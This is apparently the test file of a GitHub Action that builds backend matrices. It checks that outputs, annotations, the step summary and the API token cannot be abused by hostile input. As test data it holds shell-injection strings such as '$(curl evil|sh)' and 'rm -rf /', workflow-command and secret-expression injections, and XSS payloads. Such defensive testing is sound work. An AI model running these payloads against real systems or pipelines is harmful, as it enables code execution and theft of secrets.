/**
 * Hostile values on the way out (docs/hostile-input.md, Output is escaped):
 * GITHUB_OUTPUT, workflow command annotations, the step summary, and the token.
 */
import { afterEach, describe, expect, it } from '@jest/globals';
import { existsSync, readFileSync } from 'node:fs';
import path from 'node:path';
import fc from 'fast-check';
import { loadMatrixFile } from '../src/core/matrix-file.js';
import { plan } from '../src/core/plan.js';
import { outputBytes } from '../src/core/outputs.js';
import { formatOutput } from '../src/action/output-file.js';
import { startFakeGitHub, type FakeGitHub } from './support/fake-github.js';
import { demo } from './support/fixtures.js';
import {
  parseOutputFile,
  runAction,
  workspace,
  type ActionCase,
  type ActionRun,
} from './support/run-action.js';

const MATRIX = '.github/backend-matrix.yml';
const FIXED_OUTPUTS = 14;

/** Runs the action and also returns GITHUB_OUTPUT exactly as written. */
async function run(c: ActionCase): Promise<ActionRun & { raw: string | undefined }> {
  const dir = workspace(c.files);
  const r = await runAction(c, dir);
  const file = path.join(dir, '.runner-output');
  return { ...r, raw: existsSync(file) ? readFileSync(file, 'utf8') || undefined : undefined };
}

// ---------------------------------------------------------------------------
// (a) Values round-trip through GITHUB_OUTPUT as the runner reads it.

const NASTY = {
  newline: 'line1\nline2\n',
  crlf: 'a\r\nb\rc',
  equals: 'a=b==c',
  heredoc: 'x<<EOF\nEOF\n<<ghadelimiter_0',
  delimiter: 'ghadelimiter_0\nghadelimiter_1\nghadelimiter_',
  percent: '100% %25 %0A %0D %3A %2C',
  quotes: `'single' "double" \`back\``,
  expression: '${{ secrets.GITHUB_TOKEN }} ${{ github.event.issue.title }}',
  command: '::error::pwned\n::set-output name=x::y',
  unicode: 'ünïcødé ✓ 日本語 👍🏽 \u2028\u2029 \u200b \u0085',
  lone: '\ud800 \udfff',
  nul: 'a\u0000b',
  control: '\u001b[31mred\u0007',
  backslash: 'C:\\path\\n\\u0041',
  json: '{"include":[]}',
  empty: '',
  nested: { a: ['x\ny', { '=<<': 'v' }], 'key with spaces': null },
  number: 1.5,
  bool: false,
  nothing: null,
};

describe('GITHUB_OUTPUT', () => {
  it('carries newlines, =, <<, %, quotes, ${{ }}, ghadelimiter_0 and unicode in fields exactly', async () => {
    const single = {
      backend: 'nasty',
      'tag-suffix': '-nasty',
      'tag-latest': 'weird\n"=<<%ghadelimiter_0',
      ...NASTY,
    };
    const legs = ['amd64', 'arm64'].map((arch) => ({
      backend: 'nasty',
      'platform-tag': arch,
      'tag-suffix': '-multi',
      'tag-latest': '${{ x }}\n',
      note: NASTY.heredoc,
    }));
    const mac = { backend: 'mac', 'tag-suffix': '-mac', lang: NASTY.unicode, cmd: NASTY.command };
    const doc = { include: [single, ...legs], includeDarwin: [mac] };
    // JSON is YAML; its \u escapes (NUL, lone surrogates) are YAML escapes too.
    const r = await run({
      files: { [MATRIX]: JSON.stringify(doc, null, 2) },
      inputs: { 'force-all': 'true' },
    });
    expect([r.code, r.stderr]).toEqual([0, '']);
    const o = r.outputs!;
    expect(JSON.parse(o['matrix-singlearch'])).toStrictEqual({ include: [single] });
    expect(o['matrix-singlearch']).toBe(JSON.stringify({ include: [single] }));
    expect(Object.keys(JSON.parse(o['matrix-singlearch']).include[0])).toEqual(Object.keys(single));
    expect(JSON.parse(o['matrix-multiarch'])).toStrictEqual({ include: legs });
    expect(JSON.parse(o['matrix-darwin'])).toStrictEqual({ include: [mac] });
    expect(JSON.parse(o['merge-matrix-singlearch'])).toStrictEqual({
      include: [{ 'tag-suffix': '-nasty', 'tag-latest': single['tag-latest'] }],
    });
    expect(JSON.parse(o['merge-matrix-multiarch'])).toStrictEqual({
      include: [{ 'tag-suffix': '-multi', 'tag-latest': '${{ x }}\n' }],
    });
    // One line per output: nothing in a value can start another output.
    expect(r.raw!.split('\n')).toHaveLength(FIXED_OUTPUTS + 2 + 1);
    expect(Object.keys(o)).toHaveLength(FIXED_OUTPUTS + 2);
  });

  describe('formatOutput', () => {
    it.each<[string, string, string]>([
      ['a single line', 'x', 'a=x\n'],
      ['an empty value', '', 'a=\n'],
      ['= and << on one line', 'x=y<<z', 'a=x=y<<z\n'],
      ['a leading <<', '<<EOF', 'a=<<EOF\n'],
      ['two lines', 'l1\nl2', 'a<<ghadelimiter_0\nl1\nl2\nghadelimiter_0\n'],
      ['a CR', 'a\rb', 'a<<ghadelimiter_0\na\rb\nghadelimiter_0\n'],
      [
        'the first delimiter candidate',
        'ghadelimiter_0\nx',
        'a<<ghadelimiter_1\nghadelimiter_0\nx\nghadelimiter_1\n',
      ],
      [
        'two delimiter candidates',
        'x\nghadelimiter_1 ghadelimiter_0',
        'a<<ghadelimiter_2\nx\nghadelimiter_1 ghadelimiter_0\nghadelimiter_2\n',
      ],
      ['a trailing newline', 'x\n', 'a<<ghadelimiter_0\nx\n\nghadelimiter_0\n'],
    ])('writes %s exactly', (_, value, expected) => {
      expect(formatOutput('a', value)).toBe(expected);
      expect(parseOutputFile(formatOutput('a', value))).toEqual({ a: value });
    });

    it('round-trips any values, several outputs in one file', () => {
      const piece = fc.oneof(
        fc.string({ unit: 'binary', maxLength: 6 }),
        fc.constantFrom('\n', '\r', '\r\n', 'ghadelimiter_0', 'ghadelimiter_1', '=', '<<', '%'),
      );
      const value = fc.array(piece, { maxLength: 8 }).map((p) => p.join(''));
      fc.assert(
        fc.property(fc.array(value, { minLength: 1, maxLength: 4 }), (values) => {
          const text = values.map((v, i) => formatOutput(`out-${i}`, v)).join('');
          expect(parseOutputFile(text)).toEqual(
            Object.fromEntries(values.map((v, i) => [`out-${i}`, v])),
          );
        }),
        { seed: 7, numRuns: 500 },
      );
    });
  });
});

// ---------------------------------------------------------------------------
// (b) Values that flow into shell commands, image tags and output names.

const NAME_RULE = 'a name of letters, digits, `_`, `.` and `-`, not starting with `.` or `-`';
const TAG_RULE = 'only letters, digits, `_`, `.` and `-` (it becomes part of an image tag)';

/** A one-entry matrix with `backend` on line 2 (value at col 14) and `tag-suffix` on line 3 (col 17). */
const oneEntry = (backend: unknown, tagSuffix: unknown = '-ok'): string =>
  `include:\n  - backend: ${JSON.stringify(backend)}\n    tag-suffix: ${JSON.stringify(tagSuffix)}\n`;

const errorsOf = (text: string): { message: string; line: number; col: number }[] =>
  loadMatrixFile(text, 'm.yml')
    .problems.filter((p) => p.level === 'error')
    .map(({ message, line, col }) => ({ message, line, col }));

const INJECTIONS = [
  '$(id)',
  '`id`',
  'a;rm -rf /',
  'a && b',
  'a|b',
  'a b',
  'a/b',
  '../x',
  'a:b',
  'a\nb',
  'a\n',
  '..',
  '.hidden',
  '-flag',
  '${{ github.token }}',
  'a"b',
  "a'b",
  'a\u0000',
  'vllm\u200b',
  'ünï',
  'a=b',
  'a<<b',
];

describe('validation of values that reach shells, tags and output names', () => {
  it.each(INJECTIONS)('rejects backend %j with a clear, located error', (value) => {
    expect(errorsOf(oneEntry(value))).toEqual([
      {
        message: `\`backend\` ${JSON.stringify(value)} is not allowed: ${NAME_RULE}`,
        line: 2,
        col: 14,
      },
    ]);
  });

  it.each(INJECTIONS.filter((v) => !/^[A-Za-z0-9_.-]+$/.test(v)))(
    'rejects tag-suffix %j with a clear, located error',
    (value) => {
      expect(errorsOf(oneEntry('vllm', value))).toEqual([
        {
          message: `\`tag-suffix\` ${JSON.stringify(value)} is not allowed: ${TAG_RULE}`,
          line: 3,
          col: 17,
        },
      ]);
    },
  );

  it('rejects platform-tag $(id)', () => {
    const text = 'include:\n  - backend: vllm\n    tag-suffix: -x\n    platform-tag: "$(id)"\n';
    expect(errorsOf(text)).toEqual([
      {
        message: '`platform-tag` "$(id)" is not allowed: only letters, digits, `_`, `.` and `-`',
        line: 4,
        col: 19,
      },
    ]);
  });

  it('rejects non-string backends', () => {
    expect(errorsOf(oneEntry(123))[0].message).toBe(`\`backend\` 123 is not allowed: ${NAME_RULE}`);
    expect(errorsOf(oneEntry(['a']))[0].message).toBe(
      `\`backend\` ["a"] is not allowed: ${NAME_RULE}`,
    );
  });

  // tag-suffix allows exactly [A-Za-z0-9_.-] (docs/rules.md, Entries), so ".."
  // passes: it can only ever be a path segment of its own, never a separator.
  it('accepts a tag-suffix of dots, which its character set allows', () => {
    expect(errorsOf(oneEntry('vllm', '..'))).toEqual([]);
  });

  it.each([
    'run-all',
    'changed-backends',
    'matrix-darwin',
    'matrix-singlearch',
    'matrix-singlearch-12',
    'merge-matrix-multiarch',
    'has-backends-darwin',
    'has-merges-singlearch-3',
    'Run-All',
    'MATRIX-MULTIARCH',
  ])('rejects backend %s, which collides with a built-in output', (name) => {
    expect(errorsOf(oneEntry(name))).toEqual([
      {
        message: `backend "${name}" collides with the action's output of the same name; rename the backend`,
        line: 2,
        col: 14,
      },
    ]);
  });

  it.each(['run-all-tests', 'matrix', 'changed-backends2', 'has-backends', 'matrix-singlearch-x'])(
    'accepts backend %s, which only looks like a built-in output',
    (name) => {
      expect(errorsOf(oneEntry(name))).toEqual([]);
    },
  );

  // The documented validation does not cover this, but GitHub reads step
  // outputs case-insensitively (`steps.x.outputs.VLLM` is `vllm`): the later
  // `VLLM=false` line would hide `vllm=true`, and vllm's test job would be
  // skipped.
  it('rejects two backends whose names differ only in case (their output flags would collide)', () => {
    const text =
      'include:\n  - backend: vllm\n    tag-suffix: -a\n  - backend: VLLM\n    tag-suffix: -b\n';
    const errors = errorsOf(text);
    expect(errors).toHaveLength(1);
    expect(errors[0].message).toMatch(/VLLM/);
    expect(errors[0].message).toMatch(/vllm/);
    expect(errors[0].line).toBe(4);
  });

  it('fails the step with the error annotation, and writes no output, for an injected backend', async () => {
    const r = await run({
      files: { [MATRIX]: oneEntry('$(curl evil|sh)') },
      inputs: { 'force-all': 'true' },
    });
    expect(r.code).toBe(1);
    expect(r.raw).toBeUndefined();
    expect(r.annotations).toEqual([
      {
        level: 'error',
        props: { title: 'backend-matrix: matrix file', file: MATRIX, line: '2', col: '14' },
        message: `\`backend\` "$(curl evil|sh)" is not allowed: ${NAME_RULE}`,
      },
      { level: 'error', props: {}, message: `${MATRIX} has 1 error(s); see the annotations above` },
    ]);
  });
});

// ---------------------------------------------------------------------------
// (c) Annotations: escaped so each command stays one line and parses back exactly.

describe('annotations', () => {
  const EVIL = 'evil%25 %0A\n::error::pwned,x:y\r';
  const FILE = 'cfg,a:b%c/m.yml';
  const commandLines = (stdout: string): string[] =>
    stdout.split('\n').filter((l) => l.startsWith('::'));

  it('escapes %, newlines, :: and , in a warning and in its file property', async () => {
    const doc = { include: [{ backend: 'a', 'tag-suffix': '-a' }], [EVIL]: 1 };
    const text = JSON.stringify(doc, null, 2);
    const line = text.split('\n').findIndex((l) => l.includes('evil')) + 1;
    const r = await run({
      files: { [FILE]: text },
      inputs: { 'matrix-file': FILE, 'force-all': 'true' },
    });
    expect(r.code).toBe(0);
    expect(r.annotations).toEqual([
      {
        level: 'warning',
        props: { title: 'backend-matrix: matrix file', file: FILE, line: String(line), col: '3' },
        message: `unknown top-level key "${EVIL}" is ignored (expected include, includeDarwin, rules)`,
      },
    ]);
    expect(commandLines(r.stdout).filter((l) => /^::(warning|error)/.test(l))).toHaveLength(1);
    expect(r.stdout).not.toMatch(/^::error::pwned/m);
  });

  it('escapes them in an error that fails the step', async () => {
    const doc = { include: [], rules: { [EVIL]: 1 } };
    const r = await run({
      files: { [FILE]: JSON.stringify(doc, null, 2) },
      inputs: { 'matrix-file': FILE, 'force-all': 'true' },
    });
    expect(r.code).toBe(1);
    expect(r.annotations.map((a) => [a.level, a.props.file, a.message])).toEqual([
      [
        'error',
        FILE,
        `unknown key "${EVIL}" (expected ignore, sources, shared, build, merge-fields)`,
      ],
      ['error', undefined, `${FILE} has 1 error(s); see the annotations above`],
    ]);
    expect(commandLines(r.stdout).filter((l) => /^::(warning|error)/.test(l))).toHaveLength(2);
    expect(r.stdout).not.toMatch(/^::error::pwned/m);
  });

  it('keeps a multi-line max-jobs message on one ::error line', async () => {
    const include = [
      ...['-a', '-b', '-c'].map((s) => ({ backend: 'x', 'tag-suffix': s })),
      ...['amd64', 'arm64'].flatMap((p) =>
        ['-m', '-n'].map((s) => ({ backend: 'x', 'tag-suffix': s, 'platform-tag': p })),
      ),
    ];
    const r = await run({
      files: { [MATRIX]: JSON.stringify({ include }) },
      inputs: { 'force-all': 'true', 'max-jobs': '2' },
    });
    expect(r.code).toBe(1);
    expect(r.raw).toBeUndefined();
    expect(r.annotations).toEqual([
      {
        level: 'error',
        props: {},
        message:
          'matrix-singlearch has 3 jobs, over max-jobs (2): set singlearch-shards to at least 2\n' +
          'matrix-multiarch has 4 jobs, over max-jobs (2), and only the single-arch matrix can be sharded: split the matrix file or narrow the rules',
      },
    ]);
  });
});

// ---------------------------------------------------------------------------
// (d) The step summary: text from the matrix file and the diff is inert.

describe('step summary', () => {
  // The first file that selects a backend is quoted in its <details> line and in its rows.
  const HOSTILE = [
    'backend/python/vllm/<img src=x onerror=alert(1)>.py',
    'backend/python/diffusers/</summary></details><script>alert(1)</script>.py',
    'backend/go/whisper/a|b [x](http://evil).go',
  ];
  let summary = '';
  const summaryOf = async (): Promise<string> => {
    if (summary) return summary;
    const doc = { ...demo, '<img src=x onerror=alert(2)>|[y](http://evil)': 1 };
    const r = await run({
      files: { [MATRIX]: JSON.stringify(doc, null, 2) },
      inputs: { 'changed-files': JSON.stringify(HOSTILE) },
      eventName: 'pull_request',
    });
    expect(r.code).toBe(0);
    expect(r.outputs!['changed-backends']).toBe('["vllm","diffusers","whisper"]');
    return (summary = r.summary);
  };

  it('escapes Markdown: no raw <img, no link, no extra table cell', async () => {
    const s = await summaryOf();
    expect(s).toContain('backend/python/vllm/&lt;img src=x onerror=alert(1)&gt;.py');
    expect(s).not.toMatch(/(^|[^\\])<img/m);
    expect(s).not.toMatch(/(^|[^\\])\[(x|y)\]\(/m);
    expect(s).not.toMatch(/(^|[^\\])<script/m);
    const rows = s.split('\n').filter((l) => /^\| -[a-z]/.test(l));
    expect(rows.length).toBeGreaterThanOrEqual(4);
    for (const row of rows) expect(row.match(/(?<!\\)\|/g)).toHaveLength(5);
    expect(s).toContain(
      'unknown top-level key "&lt;img src=x onerror=alert(2)&gt;\\|&#91;y&#93;(http://evil)"',
    );
  });

  // BUG (src/summary.ts): a line that starts with <details> is an HTML block, in
  // which Markdown's backslash escapes do not apply: `\<img …>` there is a real
  // <img> element with a backslash before it, and `\</summary>` closes the tag.
  // Text inside HTML needs &lt; &gt; &amp; escaping.
  it('puts no raw HTML from file paths into its <details> HTML lines', async () => {
    const s = await summaryOf();
    const html = s.split('\n').filter((l) => l.startsWith('<'));
    expect(html.length).toBeGreaterThanOrEqual(3);
    for (const line of html) {
      expect(line).not.toMatch(/<img|<script/);
      expect(line.match(/<\/summary>/g) ?? []).toHaveLength(line.includes('<summary>') ? 1 : 0);
    }
  });
});

// ---------------------------------------------------------------------------
// (e) The token is never printed, in any outcome, with debug logging on.

describe('the token', () => {
  const TOKEN = 'ghs_Zq7SecretTokenValue_Do_Not_Print_4242';
  const DEBUG = { ACTIONS_STEP_DEBUG: 'true', RUNNER_DEBUG: '1' };
  const API_ENV = {
    BACKEND_MATRIX_API_RETRY_MS: '5',
    BACKEND_MATRIX_API_TIMEOUT_MS: '500',
    BACKEND_MATRIX_API_BUDGET_MS: '3000',
  };
  const PR_EVENT = {
    number: 42,
    pull_request: {
      number: 42,
      base: { sha: 'a'.repeat(40), ref: 'main' },
      head: { sha: 'b'.repeat(40), ref: 'topic' },
    },
  };
  const files = { [MATRIX]: JSON.stringify(demo, null, 2) };
  let server: FakeGitHub | undefined;
  afterEach(async () => {
    await server?.close();
    server = undefined;
  });

  /**
   * The first line registers the token with the runner's masker (`::add-mask::`,
   * which the runner consumes and never prints); no other line may hold it.
   */
  const expectNoToken = (r: ActionRun & { raw: string | undefined }): void => {
    const [first, ...rest] = r.stdout.split('\n');
    expect(first).toBe(`::add-mask::${TOKEN}`);
    for (const where of [
      rest.join('\n'),
      r.stderr,
      r.summary,
      r.raw ?? '',
      JSON.stringify(r.outputs ?? {}),
    ]) {
      expect(where).not.toContain(TOKEN);
      expect(where).not.toContain(TOKEN.slice(4, 24));
    }
  };

  it.each<[string, ActionCase, number]>([
    ['a filtered run', { files, inputs: { 'changed-files': 'backend/python/vllm/a.py' } }, 0],
    ['force-all', { files, inputs: { 'force-all': 'true' } }, 0],
    [
      'a validation error',
      { files: { [MATRIX]: oneEntry('$(id)') }, inputs: { 'force-all': 'true' } },
      1,
    ],
    ['a bad input', { files, inputs: { 'max-jobs': '999' } }, 1],
    [
      'GITHUB_OUTPUT unset',
      { files, inputs: { 'force-all': 'true' }, env: { GITHUB_OUTPUT: '' } },
      1,
    ],
  ])('is not printed: %s', async (_, c, code) => {
    const r = await run({
      ...c,
      inputs: { token: TOKEN, ...c.inputs },
      env: { ...DEBUG, ...c.env },
    });
    expect(r.code).toBe(code);
    expectNoToken(r);
  });

  it('is sent to the REST API and not printed', async () => {
    server = await startFakeGitHub({
      token: TOKEN,
      data: { prFiles: { 42: [{ filename: 'backend/python/vllm/a.py' }] } },
    });
    const r = await run({
      files,
      eventName: 'pull_request',
      event: PR_EVENT,
      inputs: { token: TOKEN, 'diff-source': 'api' },
      env: { ...DEBUG, ...API_ENV, GITHUB_API_URL: server.url },
    });
    expect(r.code).toBe(0);
    expect(r.outputs!['changed-backends']).toBe('["vllm"]');
    expect(server.requests[0].headers.authorization).toMatch(
      new RegExp(`^(Bearer|token) ${TOKEN}$`),
    );
    expectNoToken(r);
  });

  it('is not printed when the REST API fails and the action falls back to building everything', async () => {
    const fault = { status: 502, body: { message: 'Bad gateway' } };
    server = await startFakeGitHub({
      token: TOKEN,
      faults: { prFiles: [fault, fault, fault, fault, fault] },
    });
    const r = await run({
      files,
      eventName: 'pull_request',
      event: PR_EVENT,
      inputs: { token: TOKEN, 'diff-source': 'api' },
      env: { ...DEBUG, ...API_ENV, GITHUB_API_URL: server.url },
    });
    expect(r.code).toBe(0);
    expect(r.outputs!['run-all']).toBe('true');
    expect(r.annotations.some((a) => a.level === 'warning' && /502/.test(a.message))).toBe(true);
    expectNoToken(r);
  });

  it('is not printed when the API rejects it', async () => {
    server = await startFakeGitHub({ token: 'another-token' });
    const r = await run({
      files,
      eventName: 'pull_request',
      event: PR_EVENT,
      inputs: { token: TOKEN, 'diff-source': 'api' },
      env: { ...DEBUG, ...API_ENV, GITHUB_API_URL: server.url },
    });
    expect(r.code).toBe(0);
    expect(r.outputs!['run-all']).toBe('true');
    expectNoToken(r);
  });
});

// In-process twin of (a): what plan() hands the runner is what the file held.
it('plan() outputs hold the fields as parsed, for the hostile matrix', () => {
  const doc = { include: [{ backend: 'nasty', 'tag-suffix': '-n', ...NASTY }] };
  const m = loadMatrixFile(JSON.stringify(doc), MATRIX);
  const p = plan({
    matrix: m,
    matrixPath: MATRIX,
    change: { kind: 'all', cause: 'force-all is set' },
    shards: 1,
    maxJobs: 256,
  });
  expect(JSON.parse(new Map(p.outputs).get('matrix-singlearch')!)).toStrictEqual(doc);
});

// ---------------------------------------------------------------------------
// (f) GitHub's 1,048,576-byte cap on a job's outputs, counted as it counts (UTF-16).

describe('output size', () => {
  /** A one-entry matrix whose outputs total exactly `chars` UTF-16 code units, and its blob's length. */
  const matrixOf = (chars: number): { text: string; blob: number } => {
    const doc = (n: number) => ({
      include: [{ backend: 'big', 'tag-suffix': '-big', blob: 'é'.repeat(n) }],
    });
    const total = (n: number): number =>
      outputBytes(
        plan({
          matrix: loadMatrixFile(JSON.stringify(doc(n)), MATRIX),
          matrixPath: MATRIX,
          change: { kind: 'all', cause: 'force-all is set' },
          shards: 1,
          maxJobs: 256,
        }).outputs,
      ) / 2;
    // Each character of the blob is one code unit of one output.
    expect(total(1000) - total(0)).toBe(1000);
    const blob = chars - total(0);
    return { text: JSON.stringify(doc(blob)), blob };
  };

  it('passes 500,000 characters (1,000,000 bytes) and fails 600,000 with both figures, writing nothing', async () => {
    const [small, big] = [matrixOf(500_000), matrixOf(600_000)];
    const [ok, over] = await Promise.all(
      [small, big].map(({ text }) =>
        run({ files: { [MATRIX]: text }, inputs: { 'force-all': 'true', audit: 'false' } }),
      ),
    );
    expect(ok.code).toBe(0);
    expect(JSON.parse(ok.outputs!['matrix-singlearch']).include[0].blob).toHaveLength(small.blob);
    expect([over.code, over.raw]).toEqual([1, undefined]);
    expect(over.annotations.map((a) => a.message)).toEqual([
      expect.stringMatching(
        /the outputs would total 1,200,000 bytes .* over GitHub's limit of 1,048,576 bytes/,
      ),
    ]);
  });
});
